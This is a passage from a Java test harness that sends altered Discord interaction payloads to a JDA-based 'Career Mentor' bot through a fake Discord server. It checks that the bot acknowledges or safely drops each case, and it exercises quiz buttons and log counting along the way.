            if (value == null) a.remove(index);
            else a.set(index, value);
        }
    }

    /**
     * The interaction as Discord knows it after its payload was altered: by the id and token JDA reads
     * from the payload, and so calls back on. An id or token JDA cannot read leaves it unanswerable,
     * which is fine. Null when the payload contradicts anything Discord could have sent in a way the bot
     * cannot notice: a token that is not URL-safe (JDA would call back on a path Discord never gave), a
     * clicked message Discord does not have (Discord, not the payload, knows which message was clicked).
     */
    private Interaction identity(Interaction i) {
        JsonNode token = i.payload().get("token");
        if (token != null && !token.isNull() && !jdaReadable(token)) return null;
        JsonNode message = i.payload().get("message");
        if (message != null && message.isObject() && jdaId(message.get("id")) != null) {
            try {
                discord.rest().message(jdaId(message.get("id")));
            } catch (AssertionError unknown) {
                return null;
            }
        }
        String id = jdaId(i.payload().get("id"));
        String t = token == null || token.isNull()
                ? null
                : token.isNumber() ? token.numberValue().toString() : token.asText();
        return id == null || t == null ? i : new Interaction(id, t, i.payload());
    }

    private static boolean jdaReadable(JsonNode token) {
        return token.isNumber()
                || token.isBoolean()
                || token.isTextual() && token.asText().matches("[A-Za-z0-9._-]+");
    }

    private static String jdaId(JsonNode n) {
        if (n == null) return null;
        if (n.isNumber()) return Long.toUnsignedString(n.numberValue().longValue());
        if (!n.isTextual()) return null;
        try {
            return Long.toUnsignedString(Long.parseUnsignedLong(n.asText()));
        } catch (NumberFormatException e) {
            return null;
        }
    }

    /** A valid snowflake made at {@code millis}, unique in this run. */
    private String oldSnowflake(long millis) {
        return Long.toUnsignedString(((millis - Snowflakes.DISCORD_EPOCH) << 22) | (cases & 0x3FFFFF));
    }

    private static FakeUser user() {
        return FakeUser.person("user");
    }

    // ---- sending

    /**
     * Sends one case. An id or token Discord already gave another case is skipped: Discord never reuses
     * them, so such a case would only test the fake.
     */
    private void send(Interaction i) throws InterruptedException {
        Interaction known = sent.get(i.id());
        if (known != null && !known.equals(i) || known == null && !tokens.add(i.token())) {
            skipped++;
            return;
        }
        sent.put(i.id(), i);
        discord.dispatch(i);
        cases++;
        if (++inBatch >= BATCH) flush();
    }

    private void sendOrSkip(Interaction i) throws InterruptedException {
        if (i == null) skipped++;
        else send(i);
    }

    /** A valid command after the batch: once it is answered, JDA has handled or dropped every case before it. */
    private void flush() throws InterruptedException {
        inBatch = 0;
        Interaction sentinel = discord.slash(user(), "help", Map.of());
        helpers.add(sentinel.id());
        Exchange e = discord.callback(sentinel);
        assertEquals(200, e.status(), "the sentinel after a batch: " + e);
        assertEquals("Career Mentor: commands", embed(e).path("title").asText());
    }

    /** A click on {@code message} by the quiz's owner if {@code q} is given, else by someone new. */
    private void clickOn(Quiz q, String message, String customId) throws InterruptedException {
        if (q != null && q.clicks.incrementAndGet() > 20) q = null; // stay within the owner's click budget
        send(discord.prepareClick(q == null ? user() : q.owner, q == null ? message : q.message, customId));
    }

    private record Quiz(FakeUser owner, String message, String choice, String cancel, AtomicInteger clicks) {}

    private Quiz current;

    /** A quiz whose owner may still click without hitting the click budget (30 per 20 s). */
    private Quiz ownedQuiz() {
        try {
            if (current == null || current.clicks.incrementAndGet() > 20) current = quiz();
            return current;
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A quiz started by someone new; its first answer's and Cancel's ids. */
    private Quiz quiz() throws InterruptedException {
        FakeUser owner = user();
        Interaction i = discord.slash(owner, "quiz", Map.of());
        helpers.add(i.id());
        Exchange e = discord.callback(i);
        assertEquals(200, e.status(), e.toString());
        String message = discord.rest().original(i);
        List<String> ids = Harness.customIds(discord.rest().message(message));
        String choice =
                ids.stream().filter(id -> id.endsWith(":a0")).findFirst().orElseThrow();
        return new Quiz(
                owner, message, choice, Harness.button(discord.rest().message(message), "Cancel"), new AtomicInteger());
    }

    private record Answer(String message) {}

    private Answer answer(String sub, Map<String, String> options) throws InterruptedException {
        Interaction i = discord.slash(user(), sub, options);
        helpers.add(i.id());
        assertEquals(200, discord.callback(i).status());
        return new Answer(discord.rest().original(i));
    }

    // ---- checking

    private boolean allAcknowledged(Map<String, List<Exchange>> callbacks) {
        return answerable.keySet().stream().allMatch(id -> helpers.contains(id) || callbacks.containsKey(id));
    }

    /** The acknowledgements the fake received, by interaction id. */
    private Map<String, List<Exchange>> callbacks() {
        Map<String, List<Exchange>> out = new HashMap<>();
        for (Exchange e : discord.rest().exchanges()) {
            Matcher m = CALLBACK.matcher(e.path());
            if (e.method().equals("POST") && m.matches())
                out.computeIfAbsent(m.group(1), k -> new ArrayList<>()).add(e);
        }
        return out;
    }

    private static String abbreviated(Object o) {
        String s = String.valueOf(o instanceof Interaction i ? i.payload() : o);
        return s.length() > 600 ? s.substring(0, 600) + "..." : s;
    }

    /** Counts log events; keeps the bot's errors so a test can show them. */
    private static final class Counting extends AppenderBase<ILoggingEvent> {
        final AtomicInteger count = new AtomicInteger();
        final AtomicInteger warnings = new AtomicInteger();
        final List<String> errors = new CopyOnWriteArrayList<>();
        private final boolean keepErrors;

        Counting(boolean keepErrors) {
            this.keepErrors = keepErrors;
        }

        @Override
        protected void append(ILoggingEvent e) {
            count.incrementAndGet();
            if (e.getLevel() == Level.WARN) warnings.incrementAndGet();
            if (keepErrors && e.getLevel().isGreaterOrEqual(Level.ERROR)) {
                errors.add(e.getLoggerName() + ": " + e.getFormattedMessage());
            }
        }
    }
}
